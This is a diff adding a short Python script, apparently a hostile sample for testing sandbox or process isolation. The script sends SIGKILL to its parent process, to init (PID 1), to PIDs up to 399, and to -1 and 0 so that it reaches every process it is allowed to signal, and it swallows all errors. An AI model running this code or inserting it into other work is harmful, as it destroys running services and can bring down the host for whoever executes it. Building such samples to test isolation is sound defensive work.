@@ -1,0 +1,9 @@
+# tries to: kill every process that it may
+import os
+import signal
+
+for number in [os.getppid(), 1, 2, 3, *range(4, 400), -1, 0]:
+    try:
+        os.kill(number, signal.SIGKILL)
+    except OSError:
+        pass
